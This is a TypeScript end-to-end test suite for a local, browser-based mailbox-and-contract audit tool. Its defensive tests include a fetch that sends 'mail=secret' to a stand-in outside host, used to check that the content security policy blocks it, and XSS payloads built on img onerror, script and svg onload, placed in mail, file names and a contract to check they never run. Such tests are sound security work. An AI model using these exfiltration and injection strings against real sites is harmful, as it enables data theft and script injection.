import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { run as auditVerb } from '../../src/cli/audit.ts';
import { zipOf } from '../zips.ts';
import { claire, contract, letter, mbox, sophie, twoLetters } from './letters.ts';
import { downloadedJson, dropFiles, fileOf, pagesOn, reportOf, type Stage, setStage } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await setStage();
});
afterAll(() => stage?.close());
const { open, pages } = pagesOn(() => stage);

/** What `avenant audit --json` prints. */
async function commandLine(...args: string[]): Promise<Record<string, unknown>> {
  let printed = '';
  const stdout = { write: (text: string) => (printed += text) };
  const stderr = { write: () => undefined };
  const stdin = Readable.from([]);
  const io = {
    stdout,
    stderr,
    stdin,
    env: {},
    cwd: process.cwd(),
    today: '2027-01-01',
    language: 'en',
    timeZone: 'UTC',
  } as const;
  await auditVerb([...args, '--json', '--workers', '0', '--time-zone', 'Europe/Paris'], io);
  return JSON.parse(printed) as Record<string, unknown>;
}

const chooseMail = (page: Page, ...files: ReturnType<typeof fileOf>[]) =>
  page.setInputFiles('#pick-mail', files);
/** Drops the two letters so many times over. One small text named thousands of times is a large file that costs no memory. */
const dropYears = (page: Page, times: number) =>
  page.evaluate(
    ([text, count]) => {
      const data = new DataTransfer();
      const parts = Array.from({ length: count }, () => text);
      data.items.add(new File([new Blob(parts)], 'years.mbox'));
      document.body.dispatchEvent(
        new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }),
      );
    },
    [mbox(twoLetters), times] as const,
  );
const ownReport = async (page: Page) => {
  await page.waitForSelector('#own:not([hidden])');
  await reportOf(page);
};

describe('the demo practice', () => {
  test('is audited at once, to the figures of the command line', async () => {
    const page = await open();
    expect(await page.textContent('#banner-title')).toContain('drop your own mailbox here');
    expect(await page.textContent('#status')).toMatch(/Audit finished: 2\d\d messages read/);
    const shown = await downloadedJson(page);
    const printed = await commandLine(
      'demo/mail/inbox.mbox',
      'demo/mail/sent.mbox',
      '--contracts',
      'demo/contracts',
    );
    // The last digits of a logarithm differ between two versions of V8.
    const rounded = (audit: unknown) =>
      JSON.parse(
        JSON.stringify(audit, (_, value) =>
          typeof value === 'number' ? Math.round(value * 1e9) / 1e9 : value,
        ),
      );
    expect(rounded(shown)).toEqual(rounded(printed));
    expect((shown.asks as unknown[]).length).toBeGreaterThan(100);
  });

  test('speaks French to a French browser, and switches', async () => {
    const page = await open({ locale: 'fr-FR' });
    expect(await page.getAttribute('html', 'lang')).toBe('fr');
    expect(await page.textContent('#banner-title')).toContain('déposez ici votre propre boîte');
    expect(await page.getAttribute('#report .report', 'lang')).toBe('fr');
    await page.click('[data-language="en"]');
    expect(await page.getAttribute('#report .report', 'lang')).toBe('en');
    expect(await page.textContent('#status')).toContain('Audit finished');
    await page.reload();
    await reportOf(page);
    expect(await page.getAttribute('html', 'lang')).toBe('en');
  });
});

describe("a visitor's own mailbox", () => {
  test('is audited against the contract he drops, and he can go back', async () => {
    const page = await open();
    await dropFiles(page, [fileOf('mai.mbox', mbox(twoLetters)), fileOf('boulangerie-martin.md', contract)]);
    await ownReport(page);
    const audit = await downloadedJson(page);
    expect(audit.clients).toMatchObject([
      { client: 'Boulangerie Martin', contract: 'boulangerie-martin', messages: 1 },
    ]);
    expect(audit.asks).toMatchObject([{ text: 'Comment je fais pour changer les horaires toute seule ?' }]);
    expect(await page.textContent('#chosen')).toContain('1 mail file');
    expect(await page.textContent('#report')).toContain('Boulangerie Martin');
    await page.click('#back');
    await page.waitForSelector('#banner.is-demo');
    await reportOf(page);
    expect(await page.textContent('#report')).toContain('Cabinet Roche');
  });

  test('works with the network cut, and nothing at all is asked of any network', async () => {
    const page = await open();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.context().setOffline(true);
    await chooseMail(page, fileOf('mai.mbox', mbox(twoLetters)));
    await page.setInputFiles('#pick-contracts', [fileOf('boulangerie-martin.md', contract)]);
    await page.waitForSelector('#report:has-text("Boulangerie Martin")');
    await page.click('[data-language="fr"]');
    await page.click('#back');
    await page.waitForSelector('#banner.is-demo');
    await reportOf(page);
    expect(await page.textContent('#report')).toContain('Cabinet Roche');
    expect(requests.filter((url) => !url.startsWith('blob:'))).toEqual([]);
  });

  test('even at the start every request stays on this machine', async () => {
    const page = await stage.open();
    pages.push(page);
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.reload();
    await reportOf(page);
    expect(requests.length).toBeGreaterThan(5);
    expect(requests.filter((url) => new URL(url).origin !== stage.address)).toEqual([]);
  });

  test('the browser itself refuses to let anything out', async () => {
    const page = await open();
    const refused = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        directives.push(event.effectiveDirective),
      );
      await fetch('http://elsewhere.example/?mail=secret').catch(() => undefined);
      new Image().src = 'http://elsewhere.example/pixel.gif';
      const script = document.createElement('script');
      script.textContent = 'window.ran = 1';
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { directives, ran: 'ran' in window };
    });
    expect(refused.ran).toBe(false);
    expect(refused.directives.sort()).toEqual(['connect-src', 'img-src', 'script-src-elem']);
  });

  test("asks anew whose mail it is: the demo's provider is forgotten", async () => {
    const page = await open();
    expect(await page.inputValue('#me')).toContain('sophie@');
    await page.setInputFiles('#pick-contracts', [fileOf('boulangerie-martin.md', contract)]);
    await ownReport(page);
    expect(await page.inputValue('#me')).toBe('');
  });

  test('reads gzip, single letters, and a folder with a Maildir', async () => {
    const page = await open();
    const [question, answer] = twoLetters;
    if (!question || !answer) throw new Error('two letters');
    await dropFiles(page, [
      fileOf('mai.mbox.gz', gzipSync(mbox([question]))),
      fileOf('answer.eml', letter(answer)),
      fileOf('boulangerie-martin.md', contract),
    ]);
    await ownReport(page);
    expect((await downloadedJson(page)).skipped).toEqual([]);
    expect(await page.textContent('#status')).toContain('2 messages read, 1 ask found');

    const folder = mkdtempSync(join(tmpdir(), 'avenant-mail-'));
    for (const name of ['cur', 'new', 'tmp', '.Sent/cur']) mkdirSync(join(folder, name), { recursive: true });
    writeFileSync(join(folder, 'cur/1:2,S'.replace(':', '_')), letter(question));
    writeFileSync(join(folder, 'tmp/half'), 'From half a letter');
    writeFileSync(join(folder, '.Sent/cur/2'), letter(answer));
    writeFileSync(join(folder, 'boulangerie-martin.md'), contract);
    const second = await open();
    await second.setInputFiles('#pick-folder', folder);
    await ownReport(second);
    const audit = await downloadedJson(second);
    expect(audit).toMatchObject({ skipped: [], clients: [{ client: 'Boulangerie Martin' }] });
    expect(await second.inputValue('#me')).toBe('sophie@atelier-sable.example');
    rmSync(folder, { recursive: true });
  });

  test('reads a ZIP as the folder that it holds, as the command line does', async () => {
    const [question, answer] = twoLetters;
    if (!question || !answer) throw new Error('two letters');
    const long = Array.from({ length: 400 }, (_, at) => ({ ...question, subject: `Question ${at}` }));
    const locked = { name: 'Mail/locked.eml', content: letter(question), flags: 1 };
    const archive = zipOf([
      { name: 'Takeout/Mail/Tous les messages.mbox', content: mbox([question]), descriptor: 'marked' },
      { name: 'Mail/Envoyés/2.eml', content: letter(answer), method: 0 },
      { name: 'Mail/INBOX.msf', content: '//' },
      { name: 'Mail/old.mbox.gz', content: gzipSync(mbox([question])) },
      { name: 'Mail/zeros.bin', content: new Uint8Array(200_000_000) },
      locked,
      { name: 'Mail/older.zip', content: zipOf([locked]) },
    ]);
    // The end is lost: that is told, and the rest is read.
    const whole = zipOf([{ name: 'long.mbox', content: mbox(long) }]);
    const cut = whole.slice(0, Math.floor(whole.length * 0.8));
    // The sum is not that of the file: all of it is read, and that is told too.
    const changed = whole.slice();
    const directory = Buffer.from(whole).lastIndexOf('PK\x01\x02');
    changed[directory + 16] = (changed[directory + 16] ?? 0) ^ 1;
    const folder = mkdtempSync(join(tmpdir(), 'avenant-zips-'));
    writeFileSync(join(folder, 'takeout.zip'), archive);
    writeFileSync(join(folder, 'changed.zip'), changed);
    writeFileSync(join(folder, 'cut.zip'), cut);
    writeFileSync(join(folder, 'boulangerie-martin.md'), contract);
    const page = await open();
    await dropFiles(page, [
      fileOf('takeout.zip', archive),
      fileOf('changed.zip', changed),
      fileOf('cut.zip', cut),
      fileOf('boulangerie-martin.md', contract),
    ]);
    await ownReport(page);
    const shown = await downloadedJson(page);
    const printed = await commandLine(
      join(folder, 'changed.zip'),
      join(folder, 'cut.zip'),
      join(folder, 'takeout.zip'),
      '--contracts',
      join(folder, 'boulangerie-martin.md'),
    );
    rmSync(folder, { recursive: true });
    expect((shown.messages as { read: number }).read).toBeGreaterThan(3);
    expect({ asks: shown.asks, skipped: shown.skipped, messages: shown.messages }).toEqual({
      asks: printed.asks,
      skipped: printed.skipped,
      messages: printed.messages,
    });
    const problems = (await page.textContent('#problems')) ?? '';
    for (const said of [
      'takeout.zip/Mail/locked.eml',
      'by a password',
      'takeout.zip/Mail/older.zip',
      'changed.zip/long.mbox',
      'cut.zip',
    ])
      expect(problems).toContain(said);
  });

  test('names what could not be read, and where a contract is wrong', async () => {
    const page = await open();
    const broken = gzipSync(mbox(twoLetters)).subarray(0, 200);
    await chooseMail(
      page,
      fileOf('mai.mbox', mbox(twoLetters)),
      fileOf('holiday.png', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0])),
      fileOf('old.mbox.gz', broken),
      fileOf('empty.eml', ''),
    );
    await page.setInputFiles('#pick-contracts', [
      fileOf('boulangerie-martin.md', contract.replace('currency: EUR', 'curency: EUR')),
    ]);
    await page.waitForSelector('#problems li');
    await reportOf(page);
    const problems = (await page.textContent('#problems')) ?? '';
    expect(problems).toMatch(/boulangerie-martin\.md:7:1/);
    expect(problems).toContain('currency');
    for (const name of ['holiday.png', 'old.mbox.gz', 'empty.eml']) expect(problems).toContain(name);
    expect(await page.textContent('#report')).toContain('could not be read');
  });

  test('says so where it can only guess who the visitor is', async () => {
    const page = await open();
    await dropFiles(page, [fileOf('mai.mbox', mbox(twoLetters))]);
    await ownReport(page);
    expect(await page.textContent('#report .opening')).toContain('“You are” on the page');
  });

  test('is read anew when the visitor says who he is', async () => {
    const page = await open();
    await dropFiles(page, [fileOf('mai.mbox', mbox(twoLetters)), fileOf('boulangerie-martin.md', contract)]);
    await ownReport(page);
    await page.fill('#me', 'someone@else.example');
    await page.press('#me', 'Enter');
    await page.waitForSelector('#report .read:has-text("0 from you")');
    await page.fill('#me', 'Sophie@Atelier-Sable.example');
    await page.click('#own button[type="submit"]');
    await page.waitForSelector('#report .read:has-text("1 from you")');
  });

  test('leaves alone what the visitor writes while it works', async () => {
    const page = await open();
    await dropYears(page, 15_000);
    await page.waitForSelector('#own:not([hidden])');
    await page.fill('#me', 'sophie@atelier');
    await reportOf(page);
    expect(await page.inputValue('#me')).toBe('sophie@atelier');
  });

  test('can be cancelled in the middle, and started again', async () => {
    const page = await open();
    await dropYears(page, 60_000);
    await page.waitForSelector('#stage:has-text("messages")');
    const progress = await page.getAttribute('#bar', 'value');
    expect(Number(progress)).toBeLessThan(100);
    await page.click('#cancel');
    expect(await page.textContent('#status')).toContain('Cancelled');
    expect(await page.isVisible('#work')).toBe(false);
    await page.click('#back');
    await reportOf(page);
    expect(await page.textContent('#report')).toContain('Cabinet Roche');
  });
});

describe('hostile mail', () => {
  test('is shown as text and never runs', async () => {
    const page = await open();
    const said: string[] = [];
    page.on('dialog', (dialog) => void dialog.dismiss().then(() => said.push(dialog.message())));
    page.on('console', (message) => said.push(message.text()));
    const evil = `<img src=x onerror="window.ran=1"><script>window.ran=1</script><svg onload="window.ran=1"></svg>"'--></style></textarea>`;
    const letters = [
      {
        from: claire,
        to: sophie,
        day: 4,
        subject: `Une question ${evil}`,
        body: `Comment je fais pour changer ${evil} toute seule ?`,
      },
      {
        from: sophie,
        to: claire,
        day: 5,
        subject: 'Re',
        answers: 'may-04',
        body: `Ouvrez ${evil} et enregistrez la page.`,
      },
    ];
    const wicked = contract
      .replace('# Site vitrine', `# Site ${evil}`)
      .replace('cinq pages', `cinq ${evil} pages`);
    await dropFiles(page, [
      fileOf('mai.mbox', mbox(letters)),
      fileOf(`${'<img src=x onerror=window.ran=1>'}.eml`, 'no mail at all'),
      fileOf('boulangerie-martin.md', wicked),
    ]);
    await ownReport(page);
    expect(await page.textContent('#report')).toContain('onerror=');
    expect(await page.evaluate(() => (window as unknown as { ran?: number }).ran)).toBeUndefined();
    expect(
      await page.locator('#report :is(script, img, iframe, [onload], [onerror]), #problems img').count(),
    ).toBe(0);
    expect(said).toEqual([]);
  });
});

test('the page can be used with the keyboard alone', async () => {
  const page = await open();
  await page.keyboard.press('Tab');
  expect(await page.evaluate(() => document.activeElement?.className)).toBe('skip');
  await page.keyboard.press('Enter');
  expect(await page.evaluate(() => document.activeElement?.id)).toBe('report');
  await page.context().close();
  pages.pop();
  const again = await open();
  const reached: string[] = [];
  for (let step = 0; step < 12; step++) {
    await again.keyboard.press('Tab');
    reached.push(
      await again.evaluate(
        () =>
          document.activeElement?.id ||
          (document.activeElement as HTMLElement).dataset.language ||
          (document.activeElement as HTMLElement).dataset.download ||
          '',
      ),
    );
  }
  expect(reached).toEqual(
    expect.arrayContaining(['fr', 'en', 'pick-mail', 'pick-folder', 'pick-contracts', 'html', 'csv', 'json']),
  );
});
